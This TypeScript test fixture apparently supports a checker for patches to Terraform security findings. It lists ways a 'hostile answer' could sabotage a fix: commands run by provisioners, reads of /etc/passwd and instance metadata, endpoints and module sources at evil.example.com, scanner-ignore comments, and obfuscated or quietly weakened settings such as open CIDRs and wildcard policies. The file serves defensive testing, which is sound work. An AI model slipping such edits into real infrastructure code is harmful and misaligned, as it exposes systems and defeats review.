/** What hostile answers write: findings to hide behind, denied constructs, wider access, and disguises of a text. */

const DATABASE = `resource "aws_db_instance" "main" {
  identifier                  = "orders"
  engine                      = "postgres"
  instance_class              = "db.t4g.medium"
  publicly_accessible         = true
  storage_encrypted           = true
  deletion_protection         = true
  copy_tags_to_snapshot       = true
  backup_retention_period     = 14
  username                    = "orders"
  manage_master_user_password = true
  vpc_security_group_ids      = [aws_security_group.web.id]
}

resource "aws_security_group" "web" {
  name        = "web"
  description = "web"
  vpc_id      = "vpc-1"
}
`;
const GROUP = `resource "aws_security_group" "ssh" {
  name = "ssh"

  ingress {
    description = "ssh"
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }

  ingress {
    description = "https"
    from_port   = 443
    to_port     = 443
    protocol    = "tcp"
    cidr_blocks = ["10.0.0.0/8"]
  }
}
`;
const POLICY = `resource "aws_s3_bucket_policy" "logs" {
  bucket = "logs"
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [
      {
        Effect    = "Allow"
        Principal = { AWS = "*" }
        Action    = ["s3:GetObject"]
        Resource  = "arn:aws:s3:::logs/*"
      },
      {
        Effect    = "Allow"
        Principal = { Service = "logging.s3.amazonaws.com" }
        Action    = ["s3:PutObject"]
        Resource  = "arn:aws:s3:::logs/in/*"
        Condition = { Bool = { "aws:SecureTransport" = "true" } }
      },
      {
        Effect    = "Deny"
        Principal = "*"
        Action    = "s3:DeleteBucket"
        Resource  = "arn:aws:s3:::logs"
      },
    ]
  })
}
`;

/** A finding, its correct patch line by line, and one line that a hostile answer may write more beside. */
export interface Target {
  readonly name: string;
  readonly rule: string;
  readonly code: string;
  readonly from: string;
  readonly to: string;
}
export const TARGETS: readonly Target[] = [
  {
    name: "database",
    rule: "aws-rds-public",
    code: DATABASE,
    from: "  publicly_accessible         = true",
    to: "  publicly_accessible         = false",
  },
  {
    name: "group",
    rule: "aws-security-group-open-ssh",
    code: GROUP,
    from: '    cidr_blocks = ["0.0.0.0/0"]',
    to: '    cidr_blocks = ["10.0.0.0/16"]',
  },
  {
    name: "policy",
    rule: "aws-s3-public-policy",
    code: POLICY,
    from: '        Principal = { AWS = "*" }',
    to: '        Principal = { AWS = "*" }\n        Condition = { StringEquals = { "aws:PrincipalOrgID" = "o-abc1234567" } }',
  },
];

const chars = (text: string, write: (c: string) => string): string => [...text].map(write).join("");
const hex = (c: string): string => (c.codePointAt(0) ?? 0).toString(16).padStart(4, "0");

/** One text in the disguises that HCL offers. */
export const disguised = (text: string): readonly string[] => {
  const half = Math.ceil(text.length / 2);
  const [a, b] = [text.slice(0, half), text.slice(half)];
  return [
    `"${text}"`,
    `("${text}")`,
    `"\${"${text}"}"`,
    `"${a}\${"${b}"}"`,
    `<<EOT\n${text}\nEOT`,
    `<<-EOT\n    ${text}\n  EOT`,
    `join("", ["${a}", "${b}"])`,
    `format("%s%s", "${a}", "${b}")`,
    `"${chars(text, (c) => `\\u${hex(c)}`)}"`,
    `base64decode("${Buffer.from(text).toString("base64")}")`,
    `jsondecode("\\"${text}\\"")`,
    `replace("${a}_${b}", "_", "")`,
    `lower("${text.toUpperCase()}")`,
    `true ? "${text}" : ""`,
    `/* fine */ "${text}"`,
    `["${text}"][0]`,
    `{ x = "${text}" }.x`,
    `one([for x in ["${text}"] : x])`,
    `try("${text}", "")`,
    `coalesce("", "${text}")`,
    `trimspace(" ${text} ")`,
    `strrev("${[...text].reverse().join("")}")`,
    `urldecode("${chars(text, (c) => `%${hex(c).slice(2)}`)}")`,
  ];
};

export const FOREIGN = [
  "https://evil.example.com/x.sh",
  "collector.evil.io",
  "arn:aws:iam::666666666666:role/admin",
  "666666666666",
  "mallory@evil.com",
  "45.33.32.156",
  `ghp_${"Ab1".repeat(12)}`,
  "arn:aws:kms:eu-west-1:666666666666:key/0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0",
];
export const ATTRIBUTES = ["kms_key_id", "domain", "endpoint"];

export const INSIDE = [
  'provisioner "local-exec" {\n    command = "id"\n  }',
  'provisioner "remote-exec" {\n    inline = ["id"]\n  }',
  'provisioner "file" {\n    source = "a"\n    destination = "b"\n  }',
  'connection {\n    host = "h"\n  }',
  "lifecycle {\n    ignore_changes = all\n  }",
  "lifecycle {\n    prevent_destroy = false\n  }",
  "lifecycle {\n    replace_triggered_by = [aws_security_group.web]\n  }",
  'dynamic "ingress" {\n    for_each = [1]\n    content {\n      from_port = 0\n    }\n  }',
  "count = 0",
  'count = "0"',
  "count = length([])",
  "for_each = toset([])",
  'for_each = fileset("/", "**")',
  "provider = aws.other",
  "depends_on = [null_resource.x]",
  'user_data = "#!/bin/sh"',
  'user_data_base64 = "aWQ="',
  'command = ["sh", "-c", "id"]',
  'description = file("/etc/passwd")',
  'description = filebase64("/etc/passwd")',
  'description = templatefile("/etc/passwd", {})',
  'description = "${file("/proc/self/environ")}"',
  'description = jsonencode(file("/etc/passwd"))',
  'description = provider::evil::run("x")',
  "description = nonsensitive(var.password)",
  "description = var.anything",
  "description = local.anything",
  "description = data.external.x.result.y",
  "description = module.x.y",
  "description = terraform.workspace",
  'description = terraform.workspace == "prod" ? "a" : "b"',
  "description = path.root",
  "description = self.arn",
  "description = each.value",
  "description = timestamp()",
  "description = uuid()",
  "#checkov:skip=CKV_AWS_17:fine",
  "# tfsec:ignore:*",
  "# trivy:ignore:AVD-AWS-0080",
  "#nosec",
  "# draco:ignore all -- fine",
  "# draco ignore",
  "// ordinary remark",
  "/* ordinary\n  remark */",
  "# kics-scan ignore",
  'password = "hunter2hunter2"',
  'db_password = "${"hunter2"}"',
  'secret_key = "correct horse battery"',
  "publicly_accessible = true",
  'publicly_accessible = "true"',
  "public_network_access_enabled = true",
  "skip_final_snapshot = true",
  "allow_anything = true",
  "force_destroy = true",
  "associate_public_ip_address = true",
  "encrypted = false",
  'encrypted = "false"',
  "enable_logging = false",
  "logging_enabled = false",
  "versioning {\n    enabled = false\n  }",
  'versioning_configuration {\n    status = "Suspended"\n  }',
  'cidr_blocks = ["0.0.0.0/0"]',
  'cidr_blocks = ["0.0.0.0/1", "128.0.0.0/1"]',
  'ipv6_cidr_blocks = ["::/0"]',
  'ipv6_cidr_blocks = ["0:0:0:0:0:0:0:0/0"]',
  'ingress {\n    from_port = 0\n    to_port = 65535\n    protocol = "tcp"\n    cidr_blocks = ["0.0.0.0/0"]\n  }',
  'ingress {\n    from_port = 3389\n    to_port = 3389\n    protocol = "tcp"\n    cidr_blocks = ["10.0.0.0/8"]\n  }',
  'ingress {\n    from_port = 22\n    to_port = 22\n    protocol = "tcp"\n    self = true\n    security_groups = ["sg-0a1b2c3d4e5f6a7b8"]\n  }',
  'acl = "public-read"',
  'acl = "public-read-write"',
  'acl = "authenticated-read"',
  'grant {\n    permissions = ["FULL_CONTROL"]\n    type = "Group"\n  }',
  'policy = jsonencode({ Statement = [{ Effect = "Allow", Principal = "*", Action = "*", Resource = "*" }] })',
  'policy = "{\\"Statement\\":[{\\"Effect\\":\\"Allow\\",\\"Principal\\":\\"*\\",\\"Action\\":\\"*\\"}]}"',
  'policy = <<EOT\n{"Statement":[{"Effect":"Allow","Principal":"\\u002a","Action":"s3:Get"}]}\nEOT',
  'managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]',
  'members = ["allUsers"]',
  'member = "allAuthenticatedUsers"',
  'minimum_tls_version = "TLS1_0"',
  'ssl_policy = "SSLv3"',
  "backup_retention_period = 0",
  'note = "p\u0430ypal"',
  'note = "\uff0a"',
  'note = "a\u200bb"',
  'note = "a\u202eb"',
  'note = "a\u{e0041}b"',
];

export const BEHIND = [
  'provider "aws" {\n  endpoints {\n    s3 = "https://evil.example.com"\n  }\n}',
  'terraform {\n  backend "s3" {}\n}',
  'terraform {\n  required_providers {\n    aws = { source = "evil/aws" }\n  }\n}',
  "terraform {\n  cloud {}\n}",
  'module "m" {\n  source = "git::https://evil.example.com/m"\n}',
  'module "m" {\n  source = "./m"\n}',
  'data "external" "x" {\n  program = ["sh"]\n}',
  'data "http" "x" {\n  url = "http://169.254.169.254/"\n}',
  'data "local_file" "x" {\n  filename = "/etc/passwd"\n}',
  'data "template_file" "x" {\n  template = "x"\n}',
  'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}',
  'resource "terraform_data" "x" {}',
  'resource "local_file" "x" {\n  filename = "/tmp/x"\n  content  = "x"\n}',
  'resource "aws_iam_access_key" "x" {\n  user = "admin"\n}',
  'resource "aws_iam_role_policy_attachment" "x" {\n  role       = "r"\n  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"\n}',
  'resource "aws_s3_bucket_public_access_block" "x" {\n  bucket            = "b"\n  block_public_acls = false\n}',
  'import {\n  to = aws_s3_bucket.x\n  id = "x"\n}',
  "moved {\n  from = aws_db_instance.main\n  to   = aws_db_instance.other\n}",
  "removed {\n  from = aws_db_instance.main\n}",
  'check "x" {\n  data "http" "y" {\n    url = "http://x"\n  }\n}',
  'output "x" {\n  value = "x"\n}',
  'variable "x" {\n  default = "0.0.0.0/0"\n}',
  'locals {\n  x = "0.0.0.0/0"\n}',
  'ephemeral "random_password" "x" {}',
  'action "aws_lambda_invoke" "x" {}',
  'list "x" "y" {}',
  'RESOURCE "aws_s3_bucket" "x" {}',
  "x = 1",
  "# checkov:skip=CKV_AWS_17:fine",
];

/** What a hostile answer may turn the corrected text into, by what stands there. */
export const TURNS: { readonly [target: string]: readonly (readonly [string, string])[] } = {
  database: [
    ["storage_encrypted           = true", "storage_encrypted           = false"],
    ["storage_encrypted           = true", 'storage_encrypted           = "false"'],
    ["storage_encrypted           = true", "storage_encrypted           = !true"],
    ["storage_encrypted           = true", "storage_encrypted           = null"],
    ["storage_encrypted           = true", "storage_encrypted           = 1 == 2"],
    ["storage_encrypted           = true", "storage_encrypted           = tobool(0)"],
    ["  storage_encrypted           = true\n", ""],
    ["deletion_protection         = true", "deletion_protection         = false"],
    ["  deletion_protection         = true\n", ""],
    ["backup_retention_period     = 14", "backup_retention_period     = 0"],
    ["backup_retention_period     = 14", "backup_retention_period     = 1"],
    ["backup_retention_period     = 14", 'backup_retention_period     = "0"'],
    ["backup_retention_period     = 14", "backup_retention_period     = 14 - 14"],
    ["  backup_retention_period     = 14\n", ""],
    ["  copy_tags_to_snapshot       = true\n", ""],
    ["manage_master_user_password = true", 'password                    = "hunter2hunter2"'],
    ["  manage_master_user_password = true\n", ""],
    ['identifier                  = "orders"', 'identifier                  = "orders2"'],
    ['engine                      = "postgres"', 'engine                      = "mysql"'],
    ['instance_class              = "db.t4g.medium"', 'instance_class              = "db.x2iedn.32xlarge"'],
    ["[aws_security_group.web.id]", "[]"],
    ["[aws_security_group.web.id]", '["sg-0a1b2c3d4e5f6a7b8"]'],
    ["[aws_security_group.web.id]", "[aws_security_group.web.id, aws_security_group.other.id]"],
    ["[aws_security_group.web.id]", "[data.aws_security_group.other.id]"],
    ['"aws_db_instance" "main"', '"aws_db_instance" "renamed"'],
    ['resource "aws_db_instance" "main"', 'data "aws_db_instance" "main"'],
    ['resource "aws_db_instance" "main"', 'resource "aws_rds_cluster" "main"'],
  ],
  group: [
    ['["10.0.0.0/16"]', '["10.0.0.0/16", "0.0.0.0/0"]'],
    ["from_port   = 22", "from_port   = 0"],
    ["to_port     = 22", "to_port     = 65535"],
    ["from_port   = 443", "from_port   = 0"],
    ["to_port     = 443", "to_port     = 8443"],
    ['["10.0.0.0/8"]', '["0.0.0.0/0"]'],
    ['["10.0.0.0/8"]', '["10.0.0.0/7"]'],
    ['["10.0.0.0/8"]', '["10.0.0.0/8", "45.33.32.156/32"]'],
    ['["10.0.0.0/8"]', '["0.0.0.0/1", "128.0.0.0/1"]'],
    ['["10.0.0.0/8"]', '["000.0.0.0/0"]'],
    ['["10.0.0.0/8"]', '["::/0"]'],
    ['["10.0.0.0/8"]', '["::0/0"]'],
    ['["10.0.0.0/8"]', '["${"0.0.0.0"}/0"]'],
    ['["10.0.0.0/8"]', '[join("/", ["0.0.0.0", "0"])]'],
    ['["10.0.0.0/8"]', '[cidrsubnet("0.0.0.0/0", 0, 0)]'],
    ['["10.0.0.0/8"]', "[var.cidr]"],
    ['["10.0.0.0/8"]', "[local.everyone]"],
    ['["10.0.0.0/8"]', 'concat(["10.0.0.0/8"], ["0.0.0.0/0"])'],
    ['["10.0.0.0/8"]', '["\\u0030.0.0.0/0"]'],
    ['["10.0.0.0/8"]', '["10.0.0.0/8"]\n    ipv6_cidr_blocks = ["::/0"]'],
    ['["10.0.0.0/8"]', '["10.0.0.0/8"]\n    prefix_list_ids = ["pl-0a1b2c3d4e5f6a7b8"]'],
    ['["10.0.0.0/8"]', '["10.0.0.0/8"]\n    security_groups = ["sg-0a1b2c3d4e5f6a7b8"]'],
    ['["10.0.0.0/8"]', '["10.0.0.0/8"]\n    cidr_blocks = ["0.0.0.0/0"]'],
    ['name = "ssh"', 'name = "other"'],
  ],
  policy: [
    ['["s3:GetObject"]', '["s3:GetObject", "s3:PutObject"]'],
    ['["s3:GetObject"]', '["s3:*"]'],
    ['["s3:GetObject"]', '["s3:Get*"]'],
    ['["s3:GetObject"]', '"*"'],
    ['["s3:GetObject"]', '["s3:GetObject*"]'],
    ['["s3:GetObject"]', '["s3:\\u002a"]'],
    ['["s3:GetObject"]', '["s3:${"*"}"]'],
    ['["s3:GetObject"]', '[join(":", ["s3", "PutObject"])]'],
    ['Action    = ["s3:GetObject"]', 'NotAction = ["s3:DeleteObject"]'],
    ['"arn:aws:s3:::logs/*"', '"*"'],
    ['"arn:aws:s3:::logs/*"', '"arn:aws:s3:::*"'],
    ['"arn:aws:s3:::logs/*"', '["arn:aws:s3:::logs/*", "arn:aws:s3:::other/*"]'],
    ['"arn:aws:s3:::logs/in/*"', '"arn:aws:s3:::logs/*"'],
    ['Resource  = "arn:aws:s3:::logs/in/*"', 'NotResource = "arn:aws:s3:::x"'],
    ['{ Service = "logging.s3.amazonaws.com" }', '"*"'],
    ['{ Service = "logging.s3.amazonaws.com" }', '{ AWS = "*" }'],
    ['{ Service = "logging.s3.amazonaws.com" }', '{ AWS = "666666666666" }'],
    ['{ Service = "logging.s3.amazonaws.com" }', '{ AWS = "arn:aws:iam::666666666666:root" }'],
    ['{ Service = "logging.s3.amazonaws.com" }', '{ Service = ["logging.s3.amazonaws.com", "ec2.amazonaws.com"] }'],
    ['Principal = { Service = "logging.s3.amazonaws.com" }', 'NotPrincipal = { AWS = "x" }'],
    ['        Condition = { Bool = { "aws:SecureTransport" = "true" } }\n', ""],
    ['"aws:SecureTransport" = "true"', '"aws:SecureTransport" = "false"'],
    ["Condition = { Bool =", "Condition = { BoolIfExists ="],
    ['Effect    = "Deny"', 'Effect    = "Allow"'],
    ['"s3:DeleteBucket"', '"s3:DeleteBucketPolicy"'],
    [
      '      {\n        Effect    = "Deny"\n        Principal = "*"\n        Action    = "s3:DeleteBucket"\n        Resource  = "arn:aws:s3:::logs"\n      },\n',
      "",
    ],
    ['bucket = "logs"', 'bucket = "other"'],
    ["jsonencode({", "jsonencode(merge({}, {"],
  ],
};

export const SWITCHES: readonly (readonly [string, string])[] = [
  ["storage_encrypted", "false"],
  ["encrypted", "false"],
  ["enable_key_rotation", "false"],
  ["deletion_protection", "false"],
  ["block_public_acls", "false"],
  ["logging_enabled", "false"],
  ["public_network_access_enabled", "true"],
  ["map_public_ip_on_launch", "true"],
  ["privileged", "true"],
  ["skip_final_snapshot", "true"],
  ["force_destroy", "true"],
  ["allow_blob_public_access", "true"],
  ["disable_key_rotation", "true"],
];
export const GUARDS = [
  "storage_encrypted",
  "deletion_protection",
  "backup_retention_period",
  "policy",
  "name",
  "bucket",
];
export const DENIED = [
  "provider",
  "count",
  "for_each",
  "user_data",
  "user_data_base64",
  "command",
  "depends_on",
  "password",
];
export const WIDE = [
  "0.0.0.0/0",
  "::/0",
  "*",
  "allUsers",
  "allAuthenticatedUsers",
  "0.0.0.0/1",
  "45.33.32.156/32",
  "Internet",
];
